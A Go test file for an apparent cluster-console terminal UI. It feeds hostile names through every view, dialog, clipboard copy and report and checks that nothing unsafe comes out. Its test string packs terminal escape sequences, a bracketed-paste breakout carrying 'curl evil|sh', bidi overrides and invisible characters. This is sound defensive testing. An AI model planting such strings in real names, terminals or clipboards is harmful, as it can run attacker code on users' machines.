package ui

import (
	"bytes"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	"skep/internal/safetext"
	"skep/internal/testkit"
	"skep/model"
)

// evil is what others may call what is theirs.
const evil = "x\x1b[2J\x1b]0;own\x07\n\x1b[201~curl evil|sh\r\u009b31m\u202egnp\u00ad\u3164\U000E0067\u2028" + "e\u0301\u0301\u0301"

// harmless fails the test if a text holds what is not to be seen, or more marks
// on a letter than a terminal may be asked to draw.
func harmless(t *testing.T, where, text string) {
	t.Helper()
	for line := range strings.SplitSeq(text, "\n") {
		for _, r := range line {
			if safetext.Hidden(r) {
				t.Errorf("%s: %U in %q", where, r, line)
				return
			}
		}
	}
}

// TestHostile_EveryWayOut has everything called by names that would do something
// to a terminal, and looks at all that leaves the console.
func TestHostile_EveryWayOut(t *testing.T) {
	node := testkit.Node(testkit.Hostname(evil), testkit.Leader())
	service := testkit.Service(testkit.Name(evil), testkit.Image("img"+evil), testkit.Stack(evil))
	task := testkit.Task(testkit.Of(service), testkit.Slot(1), testkit.On(node), testkit.Err(evil), testkit.WithTask(func(t *model.Task) {
		t.ContainerID = evil
	}))
	c := testkit.Cluster(testkit.Nodes(node), testkit.Services(service), testkit.TasksFor(model.TaskQuery{}, testkit.Now, task),
		testkit.Session(model.Session{NodeID: node.Key(), Context: evil, Host: evil, Endpoint: evil, Engine: evil}))
	onDesk(t, Options{}, c, 120, 30, func(t *testing.T, d *desk) {
		for _, view := range []string{"services", "tasks", "nodes", "stacks", "problems"} {
			d.command(view)
			for _, key := range []string{"", "w", "d", "q", "y", "q", "l", "q", "p", "q", "x", "n", "q", "r", "esc", "s", "esc", "ctrl+d", "esc", "c"} {
				if key != "" {
					d.press(key)
				}
				v := d.View()
				harmless(t, view+" after "+key, ansi.Strip(v.Content))
				harmless(t, "the title", v.WindowTitle)
				if d.dialog() != nil {
					for _, cmd := range d.dialog().plan.Commands {
						harmless(t, "a command", cmd)
						if strings.Contains(cmd, "curl") {
							t.Errorf("a command by a name that had to be cleaned: %s", cmd)
						}
					}
				}
			}
			text, ok := "", false
			for i := len(d.got) - 1; i >= 0 && !ok; i-- {
				text, ok = clipboard(d.got[i])
			}
			if !ok {
				t.Errorf("%s: nothing was copied", view)
			}
			harmless(t, "the clipboard", text)
			if strings.Contains(text, "\n") {
				t.Errorf("%s: a name was copied as several lines: %q", view, text)
			}
		}
	})
	r, err := NewReport(Options{View: "tasks"})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := r.Print(&out, c, testkit.Now); err != nil {
		t.Fatal(err)
	}
	harmless(t, "the report", out.String())
}
